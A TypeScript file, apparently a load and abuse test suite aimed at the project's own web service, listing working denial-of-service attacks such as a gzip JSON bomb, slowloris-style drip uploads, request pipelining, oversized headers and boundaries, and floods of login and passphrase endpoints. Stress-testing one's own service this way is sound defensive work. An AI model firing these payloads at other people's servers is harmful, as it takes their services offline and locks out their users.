import { gzipSync } from "node:zlib";
import sharp from "sharp";
import { type Attack, flood, headOf, openSocket, type Target, untilOver } from "./attack.ts";
import { EDGE_ATTACKS } from "./edge-attacks.ts";
import { SLOW_ATTACKS } from "./slow-attacks.ts";

const MIB = 1024 * 1024;

/** Every attack that is tried, each from one address. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "a zip bomb of JSON to a procedure without input",
    aims: "the event loop: 64 MB of brackets from 71 KB",
    run: async (target) => {
      const body = new Uint8Array(gzipSync(Buffer.alloc(64 * MIB, "[")));
      const headers = { "content-type": "application/json", "content-encoding": "gzip" };
      await flood(target, { senders: 4, request: () => ({ path: "/trpc/account.logout", headers, body }) });
    },
  },
  {
    name: "a batch of large calls",
    aims: "the event loop and memory: ten calls of 1 MB in one body",
    run: async (target) => {
      const text = "a b\n".repeat(128 * 1024);
      const calls = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [i, { a: text, b: `${text}c` }]));
      const path = `/trpc/${Array.from({ length: 10 }, () => "tools.textCompare").join(",")}?batch=1`;
      const body = JSON.stringify(calls);
      const headers = { "content-type": "application/json" };
      await flood(target, { senders: 4, request: () => ({ path, headers, body }) });
    },
  },
  {
    name: "deep and wide JSON",
    aims: "the parser: brackets 63 deep, millions of values, millions of keys",
    run: async (target) => {
      const deep = `{"files":${"[".repeat(63)}${"]".repeat(63)}}`;
      const wide = `{"a":"x","b":"y","z":[${"[],".repeat(2_000_000)}[]]}`;
      const keys = `{"a":"x","b":"y",${Array.from({ length: 200_000 }, (_, i) => `"k${i}":0`).join(",")}}`;
      const bodies = [deep, wide, keys];
      const paths = ["/api/tools/pdf-merge", "/api/tools/text-compare", "/api/tools/text-compare"];
      const request = (i: number) => ({ path: paths[i % 3]!, body: bodies[i % 3]! });
      await flood(target, { senders: 3, request });
    },
  },
  {
    name: "large photographs to AVIF",
    aims: "the processors: two conversions at once for as long as it is let",
    run: async (target) => {
      const noise = { width: 6000, height: 4000, channels: 3 as const, background: "#888888" };
      const body = new Uint8Array(await sharp({ create: noise }).jpeg({ quality: 90 }).toBuffer());
      await flood(target, {
        senders: 4,
        request: () => ({ path: "/api/tools/image-convert?format=avif", body }),
      });
    },
  },
  {
    name: "results that nobody reads",
    aims: "the places of the tools: answers stay in memory until they have left",
    run: async (target) => {
      const body = Buffer.alloc(20 * MIB, 7);
      const path = "/api/tools/file-encrypt?password=p";
      const sockets = Array.from({ length: 8 }, () => openSocket(target));
      for (const socket of sockets) {
        socket.pause();
        socket.write(headOf({ path, headers: { "content-length": String(body.length) } }));
        socket.write(body);
      }
      await untilOver(target);
    },
  },
  {
    name: "pipelined catalogues",
    aims: "the event loop: 1,500 requests on ten connections before the first answer is read",
    run: async (target) => {
      const request = headOf({ method: "GET", path: "/api/tools" });
      for (const socket of Array.from({ length: 10 }, () => openSocket(target))) {
        socket.resume();
        socket.write(request.repeat(150));
      }
      await untilOver(target);
    },
  },
  {
    name: "uploads of a byte now and then",
    aims: "memory and slots: 64 bodies that announce 25 MB and never come",
    run: async (target) => {
      const headers = { "content-length": String(25 * MIB) };
      const paths = ["/api/tools/file-hash", "/api/tools/pdf-unlock", "/api/secrets", "/trpc/secrets.create"];
      const sockets = Array.from({ length: 64 }, () => openSocket(target));
      sockets.forEach((socket, i) => socket.write(headOf({ path: paths[i % paths.length]!, headers })));
      const drip = setInterval(() => sockets.forEach((socket) => socket.writable && socket.write("x")), 500);
      await untilOver(target);
      clearInterval(drip);
    },
  },
  {
    name: "guesses at a passphrase",
    aims: "key derivations: every guess costs 600,000 rounds",
    run: async (target) => {
      const made = await createSecret(target);
      const headers = { "content-type": "application/json" };
      const body = JSON.stringify({ key: made.key, passphrase: "wrong" });
      await flood(target, {
        senders: 16,
        request: () => ({ path: `/api/secrets/${made.id}/reveal`, headers, body }),
      });
    },
  },
  {
    name: "logins with wrong passwords",
    aims: "password hashes, and the owner of the name",
    run: (target) =>
      flood(target, {
        senders: 16,
        request: (i) => ({
          path: "/api/account/login",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ name: i % 2 ? "victim" : `nobody${i}`, password: "wrong password" }),
        }),
      }),
  },
  {
    name: "files locked and unlocked",
    aims: "key derivations: small files under a password",
    run: (target) =>
      flood(target, {
        senders: 16,
        request: () => ({ path: "/api/tools/file-encrypt?password=p", body: "x" }),
      }),
  },
  {
    name: "uploads cut off in the middle",
    aims: "what is held for a call that nobody waits for",
    run: async (target) => {
      const headers = { "content-length": String(4 * MIB) };
      for (let i = 0; i < target.most && !target.signal.aborted; i++) {
        const socket = openSocket(target);
        socket.write(headOf({ path: "/api/tools/pdf-rotate", headers }));
        socket.write(Buffer.alloc(MIB));
        await new Promise((resolve) => setTimeout(resolve, 20));
        socket.destroy();
      }
    },
  },
  {
    name: "long queries, headers and boundaries",
    aims: "whatever takes quadratic time in its length",
    run: async (target) => {
      const requests = [
        { method: "GET", path: `/api/tools/password?${"zz&".repeat(2500)}` },
        { method: "GET", path: "/api/tools", headers: { accept: "a/b;q=0.1,".repeat(1200) } },
        { method: "GET", path: "/", headers: { cookie: "service_user_session=x;".repeat(500) } },
        { method: "GET", path: "/", headers: { "x-forwarded-for": "1.1.1.1,".repeat(1500) } },
        {
          path: "/api/secrets",
          headers: { "content-type": `multipart/form-data; boundary=${"-".repeat(8000)}` },
          body: "-".repeat(200_000),
        },
      ];
      await flood(target, { senders: 8, request: (i) => requests[i % requests.length]! });
    },
  },
  {
    name: "HEAD of the tools",
    aims: "work without an answer to send",
    run: (target) =>
      flood(target, {
        senders: 16,
        request: () => ({ method: "HEAD", path: "/api/tools/password?count=1000&length=1024" }),
      }),
  },
  {
    name: "the document, the pages and the paths that are not there",
    aims: "what has no rate",
    run: (target) => {
      const paths = ["/api/openapi.json", "/api/tools", "/", "/api/tools/none", "/s/0123456789abcdef", "/x"];
      return flood(target, { senders: 16, request: (i) => ({ method: "GET", path: paths[i % 6]! }) });
    },
  },
  ...SLOW_ATTACKS,
  ...EDGE_ATTACKS,
];

async function createSecret(target: Target): Promise<{ id: string; key: string }> {
  const response = await fetch(`${target.url}/api/secrets`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-forwarded-for": "203.0.113.67" },
    body: JSON.stringify({ content: "x", passphrase: "right" }),
  });
  // The server is this project's, so the keys are known.
  return (await response.json()) as { id: string; key: string };
}
